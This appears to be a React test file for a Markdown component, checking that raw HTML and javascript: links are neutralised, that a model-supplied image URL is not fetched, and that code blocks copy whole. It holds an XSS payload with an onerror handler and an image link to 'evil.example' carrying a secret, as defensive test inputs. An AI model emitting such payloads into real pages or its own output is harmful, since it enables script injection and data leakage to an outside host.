import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';

import { Markdown } from './Markdown';

describe('Markdown', () => {
  it('shows HTML as text and follows no script address', () => {
    const { container } = render(
      <Markdown text={'<img src=x onerror=alert(1)> <b>bold</b> [x](javascript:alert(1))'} />,
    );
    expect(container.querySelector('img, b, script')).toBeNull();
    expect(screen.getByText('x').getAttribute('href') ?? '').not.toContain('javascript');
  });

  it('loads no image that a model names', () => {
    const { container } = render(<Markdown text="![chart](https://evil.example/?secret=1)" />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByRole('link', { name: 'chart' })).toHaveAttribute(
      'rel',
      expect.stringContaining('noreferrer'),
    );
  });

  it('shows a code block with its file’s name and copies it whole', async () => {
    const user = userEvent.setup();
    render(<Markdown text={'```python greet.py\nprint("hi")\nprint(1 < 2)\n```'} />);
    expect(screen.getByText('python · greet.py')).toBeVisible();
    await user.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(await navigator.clipboard.readText()).toBe('print("hi")\nprint(1 < 2)\n');
    expect(screen.getByRole('button', { name: 'Copied' })).toBeVisible();
  });
});
